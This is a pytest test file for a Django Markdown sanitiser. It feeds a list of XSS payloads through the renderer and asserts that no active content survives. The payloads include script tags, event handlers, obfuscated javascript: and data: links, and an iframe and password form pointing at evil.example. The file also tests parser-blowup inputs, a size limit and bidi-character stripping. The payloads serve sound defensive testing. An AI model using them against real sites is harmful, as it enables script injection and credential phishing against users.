"""Markdown rendering is sanitised: hostile descriptions render as harmless HTML."""

from __future__ import annotations

import re
import time

import pytest
from django.template import Context, Template

from catalog.markup import render_markdown, strip_invisible, too_long_message

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    '<p onclick="alert(1)">click</p>',
    '<a href="#" onmouseover="alert(1)">hover</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    '<a href="jav&#x61;script:alert(1)">entity</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="DATA:text/html,<script>alert(1)</script>">data</a>',
    "[x](vbscript:msgbox(1))",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<svg onload=alert(1)><circle r=5 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body { display:none }</style>",
    '<div style="position:fixed;inset:0">overlay</div>',
    "<form action=https://evil.example><input name=password></form>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<!-- <script>alert(1)</script> -->",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://ok.example" target="_blank" rel="opener">ok</a>',
    '[ref][1]\n\n[1]: javascript:alert(1) "title"',
    "![img](https://evil.example/track.png)",
    '<table><tr><td background="javascript:alert(1)">cell</td></tr></table>',
    '<details open ontoggle="alert(1)">x</details>',
]


def _tags(html: str) -> set[str]:
    return {t.lower() for t in re.findall(r"<\s*([a-zA-Z0-9]+)", html)}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_without_active_content(text):
    html = render_markdown(text)
    lowered = html.lower()

    assert "<script" not in lowered and "<style" not in lowered and "<iframe" not in lowered
    assert not re.search(r"\son[a-z]+\s*=", lowered), html
    assert "javascript:" not in lowered and "vbscript:" not in lowered
    assert "data:" not in lowered
    assert "style=" not in lowered
    assert _tags(html) <= {
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "code",
        "pre", "blockquote", "del", "sub", "sup", "ul", "ol", "li", "dl", "dt", "dd", "a",
        "abbr", "table", "thead", "tbody", "tr", "th", "td",
    }  # fmt: skip
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith(("http://", "https://", "mailto:")), href


def test_links_keep_safe_schemes_and_get_rel_nofollow():
    html = render_markdown("[docs](https://example.org/a?b=1) and <mailto:team@example.org>")

    assert 'href="https://example.org/a?b=1"' in html
    assert "mailto:" in html
    assert html.count('rel="noopener noreferrer nofollow"') == 2


def test_plain_markdown_renders_lists_code_and_tables():
    html = render_markdown(
        "**Paid** orders, one row each.\n\n- `status`: new | paid\n- soft-deleted\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n"
    )

    assert "<strong>Paid</strong>" in html
    assert "<li><code>status</code>: new | paid</li>" in html
    assert '<td align="right">2</td>' in html


def test_text_stays_escaped_text():
    assert render_markdown("a < b && c > d") == "<p>a &lt; b &amp;&amp; c &gt; d</p>"


def test_blank_text_renders_nothing():
    assert render_markdown("") == ""
    assert render_markdown("  \n ") == ""


def test_template_filter_marks_the_sanitised_html_safe():
    rendered = Template("{% load docs %}{{ text|markdown }}").render(
        Context({"text": "*hi* <script>alert(1)</script>"})
    )

    assert rendered == "<p><em>hi</em> </p>"


# Hostile sizes and shapes (issue 15): linear rendering, a size limit, no invisible text.

# Each was quadratic or worse in Python-Markdown; each is exactly at the size limit here.
ADVERSARIAL = {
    "brackets": lambda n: "[" * (n // 2) + "]" * (n // 2),
    "link openers": lambda n: "[a](" * (n // 4),
    "image openers": lambda n: "![" * (n // 2),
    "nested emphasis": lambda n: "*" * (n // 2 - 1) + "a" + "*" * (n // 2),
    "backticks": lambda n: "`a``" * (n // 4),
    "angle brackets": lambda n: "<a" * (n // 2),
    "long table": lambda n: "|a|\n|-|\n" + "|x|\n" * (n // 4 - 2),
    "nested quotes": lambda n: ">" * n,
    "nested lists": lambda n: "".join("  " * i + "- a\n" for i in range(n // 400)),
}


@pytest.mark.parametrize("shape", ADVERSARIAL)
def test_adversarial_markdown_at_the_size_limit_renders_without_blowing_up(shape, settings):
    text = ADVERSARIAL[shape](settings.SCHEMAJOY_DESCRIPTION_MAX_CHARS)
    assert len(text) <= settings.SCHEMAJOY_DESCRIPTION_MAX_CHARS
    started = time.process_time()

    html = render_markdown(text)

    # A sanity ceiling only (bench/ measures): Python-Markdown took 66 s on the brackets.
    assert time.process_time() - started < 5
    assert "<script" not in html


def test_markdown_parser_nests_no_deeper_than_its_cap():
    html = render_markdown(">" * 5000 + " deep")

    assert html.count("<blockquote>") <= 20


def test_text_over_the_size_limit_is_shown_as_plain_text_never_parsed(settings):
    settings.SCHEMAJOY_DESCRIPTION_MAX_CHARS = 100
    text = "[" * 200 + "<script>x</script>" + "]" * 200

    html = render_markdown(text)

    assert html.startswith("<pre>") and "&lt;script&gt;" in html and "<script" not in html


def test_size_message_names_the_limit_and_the_length(settings):
    settings.SCHEMAJOY_DESCRIPTION_MAX_CHARS = 10

    assert too_long_message("x" * 10) is None
    assert too_long_message("x" * 11) == (
        "Descriptions are limited to 10 characters; this one has 11. "
        "Shorten it, or link to a longer document."
    )


@pytest.mark.parametrize(
    "char", ["\u202e", "\u202a", "\u2066", "\u2069", "\u200f", "\u200b", "\x00", "\x1b", "\x85"]
)
def test_bidi_and_control_characters_are_stripped(char):
    assert strip_invisible(f"paid{char}diap\tok\n") == "paiddiap\tok\n"


def test_fenced_code_and_tables_render():
    html = render_markdown("```sql\nselect 1 < 2;\n```\n\n| a |\n|---|\n| b |\n")

    assert "<pre><code>select 1 &lt; 2;\n</code></pre>" in html
    assert "<table>" in html and "<th>a</th>" in html and "<td>b</td>" in html
